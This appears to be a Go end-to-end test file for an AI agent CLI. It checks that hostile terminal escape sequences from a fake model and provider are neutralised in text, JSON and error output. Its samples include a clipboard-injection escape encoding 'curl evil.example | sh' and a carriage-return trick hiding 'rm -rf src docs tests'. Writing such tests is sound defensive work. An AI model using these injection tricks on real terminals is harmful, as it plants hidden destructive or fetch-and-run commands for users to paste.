package e2e

import (
	"bufio"
	"encoding/json"
	"strings"
	"testing"

	"brig/internal/termsafe/termsafetest"
	"brig/test/fakeprovider"
)

// hostileTurns is a model that answers with the corpus of hostile strings
// (OSC 52 clipboard, OSC 8 links, a title, screen clears, cursor moves,
// DCS, C1 controls in UTF-8, bidi overrides, CR overprinting, a long line),
// runs a command whose output holds escapes and fails, and asks to write a
// file whose name holds escapes (denied: no one to ask).
func hostileTurns() []fakeprovider.Turn {
	return []fakeprovider.Turn{
		{Text: termsafetest.All(), ToolCalls: []fakeprovider.ToolCall{
			tc("bash", `{"command":"printf 'out \\033]52;c;ZXZpbA==\\007 \\033[2J\\rgone\\n'; printf 'err \\033]0;title\\007\\n' >&2; exit 3"}`),
			tc("write_file", `{"path":"notes\u001b]52;c;ZXZpbA==\u0007.txt","content":"x"}`),
		}},
		{Text: "done \x1b]0;pwned\x07 \u009b2J\n"},
	}
}

// TestOneShotOutputIsInert: the real binary, driven by the fake provider
// in each wire format, writes nothing a terminal would interpret on
// stdout or stderr in text mode, shows the escapes as symbols, and keeps
// the exact text in json and stream-json.
func TestOneShotOutputIsInert(t *testing.T) {
	for _, wire := range []string{"anthropic", "openai", "openaichat"} {
		t.Run(wire, func(t *testing.T) {
			e := newEnv(t, wire, hostileTurns()...)
			r := e.run(t, append(modelArgs(wire), "-p", "go")...)
			if r.code != 0 {
				t.Fatalf("exit %d\n%s", r.code, r.stderr)
			}
			for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
				if err := termsafetest.Inert([]byte(out), false); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
			for _, want := range []string{"copied ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ done", "rm -rf src docs tests #␍go test ./...", `\u009b2J`, `\u202e`} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("stdout does not show %q", want)
				}
			}
			if !strings.Contains(r.stderr, "notes␛]52;c;ZXZpbA==␇.txt") {
				t.Errorf("stderr does not show the denied path inert:\n%s", r.stderr)
			}
		})
	}
}

// TestOneShotJSONKeepsTheExactText: --output json and stream-json hold the
// model's exact text, JSON-escaped, and nothing a terminal interprets.
func TestOneShotJSONKeepsTheExactText(t *testing.T) {
	final := "done \x1b]0;pwned\x07 \u009b2J\n"
	e := newEnv(t, "anthropic", hostileTurns()...)
	r := e.run(t, "--model", "claude-sonnet-4-5", "-p", "go", "--output", "json")
	if err := termsafetest.Inert([]byte(r.stdout+r.stderr), false); err != nil {
		t.Errorf("json: %v", err)
	}
	var sum struct {
		Result string `json:"result"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &sum); err != nil || sum.Result != final {
		t.Fatalf("json result %q (%v), want %q\n%s", sum.Result, err, final, r.stdout)
	}

	e = newEnv(t, "anthropic", hostileTurns()...)
	r = e.run(t, "--model", "claude-sonnet-4-5", "-p", "go", "--output", "stream-json")
	if err := termsafetest.Inert([]byte(r.stdout+r.stderr), false); err != nil {
		t.Errorf("stream-json: %v", err)
	}
	var text strings.Builder
	sc := bufio.NewScanner(strings.NewReader(r.stdout))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var rec struct {
			Type string `json:"type"`
			Text string `json:"text"`
		}
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("%v: %s", err, sc.Text())
		}
		if rec.Type == "text" {
			text.WriteString(rec.Text)
		}
	}
	if want := termsafetest.All() + final; text.String() != strings.ToValidUTF8(want, "\uFFFD") {
		t.Errorf("stream-json text differs from what the model sent")
	}
}

// TestProviderErrorIsInert: an error message from the provider that holds
// escapes reaches stderr inert.
func TestProviderErrorIsInert(t *testing.T) {
	e := newEnv(t, "anthropic", fakeprovider.Turn{Error: &fakeprovider.ErrorReply{Status: 400, Type: "invalid_request_error", Message: "bad request \x1b]52;c;ZXZpbA==\x07\x1b[2J"}})
	r := e.run(t, "--model", "claude-sonnet-4-5", "-p", "go")
	if r.code != 1 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if err := termsafetest.Inert([]byte(r.stdout+r.stderr), false); err != nil {
		t.Errorf("%v\n%q", err, r.stderr)
	}
}
